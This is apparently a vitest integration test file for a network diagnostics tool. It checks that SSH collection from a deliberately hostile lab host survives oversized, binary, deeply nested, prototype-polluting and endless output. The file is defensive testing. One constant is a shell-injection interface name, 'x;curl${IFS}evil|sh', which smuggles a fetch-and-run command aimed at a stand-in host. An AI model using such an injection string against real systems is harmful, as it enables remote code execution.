import fs from "node:fs";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { GET as health } from "@/app/api/health/route";
import { collectHost } from "@/lib/jobs/collect";
import { findingsSettled } from "@/lib/jobs/evaluate-findings";
import { getDb } from "@/lib/db";
import { createHost, getHost } from "@/lib/queries/hosts";
import { listFindings } from "@/lib/queries/findings";
import { getLatestSnapshot, listRuns } from "@/lib/queries/runs";
import type { RunSummary } from "@/lib/domain/views";
import { labKey, readHostileHosts, readLab, setHostileMode, startWithNoHosts, type HostileHost, type LabHost } from "./lab";

// "Nothing a host prints can stall, leak or mislead." A real host (lab/README.md "The hostile
// host": real sshd, real login shell, netdiag's real framed script) whose commands print
// multi-MB lines, binary garbage, 100k-deep JSON, __proto__ keys, counters above 2^64, 3,000
// interfaces and 50,000 neighbors, a shell-metacharacter interface name, and output that never
// ends. Each mode is one collection; each must end as what a user can read (ok, partial or
// failed, naming the command) within the per-command timeout, while a normal host collected at
// the same time stays "ok" and the server keeps answering /api/health.

const METACHAR = "x;curl${IFS}evil|sh";
const COMMAND_TIMEOUT_MS = Number(process.env.NETDIAG_SSH_COMMAND_TIMEOUT_MS ?? 8000);

let hostile: HostileHost;
let normal: LabHost;
let hostileId = -1;
let normalId = -1;
const healthMs: Record<string, number[]> = {};

const p95 = (xs: number[]) => [...xs].sort((a, b) => a - b)[Math.max(0, Math.ceil(xs.length * 0.95) - 1)] ?? 0;

/** The hostile host in MODE, the normal host at the same time, /api/health asked all along. */
async function collectIn(mode: string): Promise<{ run: RunSummary; normalRun: RunSummary; elapsedMs: number }> {
  setHostileMode(hostile, mode);
  const samples: number[] = (healthMs[mode] = []);
  let done = false;
  // A client asking every 20 ms: each sample runs from when its request was due to its answer,
  // so time the event loop spent blocked (a timer firing late) counts, not only the handler.
  const poll = (async () => {
    while (!done) {
      const due = performance.now() + 20;
      await new Promise((r) => setTimeout(r, 20));
      const res = await health(new Request("http://localhost/api/health"), undefined as never);
      samples.push(performance.now() - due);
      expect(res.status).toBe(200);
    }
  })();
  const started = performance.now();
  const [run, normalRun] = await Promise.all([collectHost(hostileId), collectHost(normalId)]);
  const elapsedMs = performance.now() - started;
  done = true;
  await poll;
  await findingsSettled();
  console.log(
    `hostile ${mode}: ${run.status} in ${Math.round(elapsedMs)} ms; /api/health p95 ${p95(samples).toFixed(1)} ms ` +
      `(max ${Math.max(...samples).toFixed(1)} ms, ${samples.length} calls); error: ${(run.error ?? "").slice(0, 300)}`,
  );
  expect(normalRun.status).toBe("ok");
  return { run, normalRun, elapsedMs };
}

async function lastRun() {
  const [run] = await listRuns(hostileId, 1);
  if (!run) throw new Error("no run");
  return run;
}

function dbFile(): string {
  const url = process.env.DATABASE_URL ?? "";
  return url.replace(/^file:/, "");
}

/** The database file's size with its WAL folded in (deterministic: pages, not timing). */
async function dbBytes(): Promise<number> {
  const db = await getDb();
  await db.$queryRawUnsafe("PRAGMA wal_checkpoint(TRUNCATE)");
  return fs.statSync(dbFile()).size;
}

beforeAll(async () => {
  await startWithNoHosts();
  const l = readLab();
  const found = readHostileHosts()[0];
  if (!found) throw new Error("The lab has no hostile host: LAB_PREFIX=... lab.sh up --profile-hosts (or --profile-hosts hostile,...)");
  hostile = found;
  const first = l.hosts[0];
  if (!first) throw new Error("The lab has no lean host");
  normal = first;
  const privateKey = labKey(l);
  hostileId = (await createHost({ name: hostile.name, address: hostile.address, port: hostile.port, username: hostile.username, platform: "auto", privateKey })).id;
  normalId = (await createHost({ name: normal.name, address: normal.address, port: normal.port, username: normal.username, platform: "auto", privateKey })).id;
});

afterAll(() => {
  if (hostile) setHostileMode(hostile, "off");
  const all = Object.values(healthMs).flat();
  if (all.length) console.log(`/api/health during hostile collections: p95 ${p95(all).toFixed(1)} ms over ${all.length} calls`);
});

describe("a hostile host", () => {
  test("off: the host itself is collected ok (and detected once)", async () => {
    const { run } = await collectIn("off");
    expect([run.status, run.error]).toEqual(["ok", null]);
  });

  describe("multi-MB outputs leave the database small", () => {
    let before = 0;
    beforeAll(async () => {
      before = await dbBytes();
    });

    test("long-line: a 3 MiB line in ip -j link is read; 3 MiB of non-JSON in ip neigh is a partial run", async () => {
      const { run } = await collectIn("long-line");
      expect(run.status).toBe("partial");
      expect(run.error).toContain("ip neigh show");
      const snap = await getLatestSnapshot(hostileId);
      expect(snap?.runId).toBe(run.runId);
      expect(snap?.interfaces.map((i) => i.name).sort()).toEqual(expect.arrayContaining(["eth0", "lo"]));
      const stored = await lastRun();
      // What a run keeps of a command is bounded: no 3 MiB line in the database.
      expect(JSON.stringify(stored.commands).length).toBeLessThan(6 * 64 * 1024);
      expect(JSON.stringify(stored.commands)).toMatch(/truncated/);
    });

    test("binary: NULs, invalid UTF-8 and escapes in ip link/addr: partial, named, nothing of it stored as a name", async () => {
      const { run } = await collectIn("binary");
      expect(run.status).toBe("partial");
      expect(run.error).toContain("ip -s -d link show");
      const snap = await getLatestSnapshot(hostileId);
      expect(snap?.interfaces).toEqual([]);
      expect(snap?.neighbors.length).toBeGreaterThan(0);
      // uname -n printed an OSC title sequence and a NUL: not taken as the host name.
      const host = await getHost(hostileId);
      expect(host.hostname ?? "").not.toMatch(/[\u0000-\u001f\u007f]/);
      expect(run.error).toMatch(/hostname: .*control characters/);
    });

    test("deep-json: 100,000 nested arrays are a parse failure of that command, not a crash", async () => {
      const { run } = await collectIn("deep-json");
      expect(run.status).toBe("partial");
      const stored = await lastRun();
      const json = stored.commands.find((c) => c.command === "ip -j -s -d link show");
      expect(json).toMatchObject({ ok: false });
      expect(json?.error).toMatch(/nested|parse|JSON/i);
      expect(run.error).toContain("ip -s -d link show");
      const snap = await getLatestSnapshot(hostileId);
      expect(snap?.neighbors.length).toBeGreaterThan(0);
    });

    test("endless: ip -j neigh show never ends; it is cut at the cap, the rest of the batch is recorded", async () => {
      const { run, elapsedMs } = await collectIn("endless");
      expect(run.status).toBe("partial");
      expect(run.error).toMatch(/ip -j neigh show.*printed more than 8 MiB/);
      expect(elapsedMs).toBeLessThan(COMMAND_TIMEOUT_MS);
      const stored = await lastRun();
      // The commands after it in the same script still ran (on a fresh channel) and answered.
      expect(stored.commands.find((c) => c.command === "uname -n")).toMatchObject({ ok: true });
      expect(stored.commands.find((c) => c.command === "uname -srm")).toMatchObject({ ok: true });
      const snap = await getLatestSnapshot(hostileId);
      expect(snap?.interfaces.map((i) => i.name)).toContain("eth0");
      expect((await getHost(hostileId)).hostname).toBe(hostile.hostname);
    });

    test("the four multi-MB collections grew the database by less than 1 MiB", async () => {
      const grown = (await dbBytes()) - before;
      console.log(`database growth over long-line, binary, deep-json and endless: ${grown} bytes`);
      expect(grown).toBeLessThan(1024 * 1024);
    });
  });

  test("proto: __proto__ and constructor keys neither pollute nor invent interfaces or neighbors", async () => {
    const { run } = await collectIn("proto");
    expect(run.status).toBe("partial");
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    const snap = await getLatestSnapshot(hostileId);
    const names = snap?.interfaces.map((i) => i.name).sort();
    expect(names).toEqual(["eth0", "lo"]);
    expect(snap?.interfaces.find((i) => i.name === "eth0")?.mtu).toBe(1500);
    expect(snap?.neighbors.length).toBeGreaterThan(0);
    expect(snap?.neighbors.map((n) => n.ip)).not.toEqual(expect.arrayContaining(["6.6.6.6"]));
    expect(snap?.neighbors.map((n) => n.ip)).not.toEqual(expect.arrayContaining(["6.6.6.7"]));
  });

  test("counters: values above 2^64 (and above what the database holds) are skipped, never stored wrong", async () => {
    const { run } = await collectIn("counters");
    expect(run.status).toBe("partial");
    const db = await getDb();
    const rows = await db.interface.findMany({ where: { runId: run.runId } });
    const eth0 = rows.find((i) => i.name === "eth0");
    const ok0 = rows.find((i) => i.name === "ok0");
    expect(eth0).toMatchObject({ rxBytes: null, txBytes: null, rxPackets: null, txPackets: null, txErrors: null, mtu: null, speedMbps: null });
    expect(eth0?.txDropped).toBe(7n);
    // Exact 64-bit values in range stay exact, to the last digit.
    expect(ok0?.rxBytes).toBe(9223372036854775807n);
    expect(ok0?.rxPackets).toBe(12345678901234567n);
    // No stored counter anywhere is outside what a 64-bit kernel counter can be.
    for (const r of rows) {
      for (const v of [r.rxBytes, r.txBytes, r.rxPackets, r.txPackets, r.rxErrors, r.txErrors, r.rxDropped, r.txDropped]) {
        if (v !== null) expect(v >= 0n && v < 2n ** 64n).toBe(true);
      }
    }
    expect(run.error).toMatch(/18446744073709551616/);
  });

  test("many: 3,000 interfaces and 50,000 neighbors are stored, ok, in reasonable time", async () => {
    const { run, elapsedMs } = await collectIn("many");
    expect([run.status, run.error]).toEqual(["ok", null]);
    expect(elapsedMs).toBeLessThan(60_000);
    const db = await getDb();
    expect(await db.interface.count({ where: { runId: run.runId } })).toBe(3000);
    expect(await db.neighbor.count({ where: { runId: run.runId } })).toBe(50_000);
    expect(await db.interface.count({ where: { runId: run.runId, name: METACHAR } })).toBe(1);
  });

  test("metachar: the name is stored verbatim, and a fix quotes it as one shell word", async () => {
    const up = await collectIn("metachar");
    expect(up.run.status).toBe("ok");
    const down = await collectIn("metachar-down");
    expect(down.run.status).toBe("ok");
    const snap = await getLatestSnapshot(hostileId);
    expect(snap?.interfaces.find((i) => i.name === METACHAR)).toMatchObject({ state: "down", addresses: ["192.0.2.1/24"] });
    const findings = await listFindings({ hostId: hostileId, kind: "link-down" });
    const finding = findings.find((f) => f.subject.label.includes(METACHAR) || f.title.includes(METACHAR));
    expect(finding, JSON.stringify(findings.map((f) => f.title))).toBeDefined();
    expect(finding?.fix).toContain(`ip link set dev 'x;curl\${IFS}evil|sh' up`);
    expect(finding?.fix).not.toMatch(/dev x;curl/);
  });

  test("off again: the host is collected ok, nothing left over", async () => {
    const { run } = await collectIn("off");
    expect([run.status, run.error]).toEqual(["ok", null]);
  });

  test("/api/health stayed responsive during the hostile collections (p95 < 100 ms)", () => {
    // "off" is the host behaving (and the first collection of the file warms up the modules).
    const all = Object.entries(healthMs).flatMap(([mode, xs]) => (mode === "off" ? [] : xs));
    expect(all.length).toBeGreaterThan(10);
    expect(p95(all)).toBeLessThan(100);
  });
});
